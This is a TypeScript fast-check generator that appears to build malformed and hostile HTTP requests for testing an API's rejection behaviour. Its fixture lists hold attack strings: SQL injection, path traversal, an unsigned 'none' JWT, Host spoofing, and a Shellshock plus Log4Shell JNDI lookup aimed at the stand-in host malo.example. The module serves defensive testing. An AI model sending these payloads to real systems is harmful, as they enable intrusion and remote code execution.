import fc from 'fast-check'
import { fillAddress, pickOne, type RequestKind, validRequest, validRequests } from './draft.ts'
import { payloads } from './payloads.ts'
import { invalidIds, invalidQueryValue, oddQueries } from './values.ts'
import type { Header } from './wireRequest.ts'

const wrongId: RequestKind = (operation) =>
  pickOne(operation.ids)?.chain(({ name }) =>
    invalidIds.map((id) => ({ ...validRequest(operation), target: fillAddress(operation, { [name]: id }) })),
  )

const wrongQuery: RequestKind = (operation) =>
  pickOne(operation.query)?.chain((field) =>
    fc
      .tuple(validRequests(operation), invalidQueryValue(field), oddQueries, fc.boolean())
      .map(([wire, wrong, odd, twice]) => {
        const own = twice ? [`${field.name}=1`, `${field.name}=${wrong}`] : [`${field.name}=${wrong}`]
        const others = odd.filter((each) => !each.startsWith('buscar='))
        return { ...wire, target: `${wire.target}?${[...own, ...others].join('&')}` }
      }),
  )

const badTokens = [
  '',
  'Bearer',
  'Bearer ',
  'Basic YWRtaW46YWRtaW4=',
  'Bearer null',
  'Bearer undefined',
  "Bearer ' or 1=1 --",
  `Bearer ${'z'.repeat(8000)}`,
  'Bearer ñandú 🚚',
  'Bearer eyJhbGciOiJub25lIn0.e30.',
  'Digest username="admin"',
]
const badToken: RequestKind = (operation) =>
  operation.open
    ? undefined
    : fc
        .tuple(validRequests(operation), fc.constantFrom(...badTokens), fc.boolean())
        .map(([wire, token, twice]) => ({
          ...wire,
          headers: [...wire.headers, ['Authorization', token], ['Cookie', 'token=x'], ['X-User-Id', '1']],
          // The second token is valid, but comes after the wrong one.
          anonymous: !twice,
        }))

const longKey: RequestKind = (operation) =>
  pickOne(operation.headers.filter(({ schema }) => schema.maxLength))?.chain(
    ({ name, schema: { maxLength = 0 } }) =>
      fc.tuple(validRequests(operation), fc.constantFrom('k', 'ñ', '🚚', "'")).map(([wire, letter]) => ({
        ...wire,
        headers: [...wire.headers, [name, letter.repeat(maxLength + 1)]],
      })),
  )

const otherMethods = ['TRACE', 'OPTIONS', 'HEAD', 'PROPFIND', 'LOCK', 'SEARCH', 'PURGE', 'LINK', 'M-SEARCH']
const otherMethod: RequestKind = (operation) =>
  fc
    .tuple(validRequests(operation), fc.constantFrom(...otherMethods))
    .map(([wire, method]) => ({ ...wire, method }))

const unknownSuffixes = [
  '/',
  '//',
  '/../..',
  '/%2e%2e/rutas',
  '/.git/config',
  '%00',
  '%2f',
  '.php',
  '/nada/1',
  '/1/2/3',
  ';x=1',
]
const unknownAddress: RequestKind = (operation) =>
  fc
    .tuple(validRequests(operation), fc.constantFrom(...unknownSuffixes))
    .map(([wire, more]) => ({ ...wire, target: `${fillAddress(operation, { id: 'x' })}${more}` }))

const oddHeaders: Header[] = [
  ['Accept', 'text/html'],
  ['Accept', ''],
  ['Accept', 'application/json;q=nada, */*;q=-1, ,;'],
  ['Accept', 'x/y;'.repeat(1500)],
  ['Accept-Encoding', 'gzip;q=0, br, *;q=0.1, zstd'],
  ['Accept-Language', '\u00ff\u00fe'],
  ['Range', 'bytes=0-0,-1,5-'],
  ['If-None-Match', '*'],
  ['If-Modified-Since', 'ayer'],
  ['Origin', 'null'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Forwarded-For', "' or 1=1 --, 127.0.0.1, ::1"],
  ['X-Forwarded-Host', 'malo.example'],
  ['X-Original-URL', '/api/usuarios'],
  ['X-Request-Id', `{"level":60}`],
  ['Upgrade', 'websocket'],
  ['Host', 'malo.example'],
  ['Cookie', `${'a=b; '.repeat(1000)}__proto__=x`],
  ['Content-Type', 'application/json'],
  ['Expect', '100-continue'],
  ['User-Agent', `() { :; }; \${jndi:ldap://malo.example}`],
  ...payloads.map((text): Header => ['X-Nota', text.replace(/\p{Cc}/gu, ' ')]),
]

/** Methods, addresses and headers that every call rejects. */
export const headKinds = { wrongId, wrongQuery, badToken, longKey, otherMethod, unknownAddress }

/** Unusual requests that only read. */
export const oddRead: RequestKind = (operation) =>
  operation.method === 'GET'
    ? fc
        .tuple(
          validRequests(operation),
          oddQueries,
          fc.array(fc.constantFrom(...oddHeaders), { maxLength: 3 }),
        )
        .map(([wire, odd, headers]) => ({
          ...wire,
          target: odd.length > 0 ? `${wire.target}?${odd.join('&')}` : wire.target,
          headers,
        }))
    : undefined
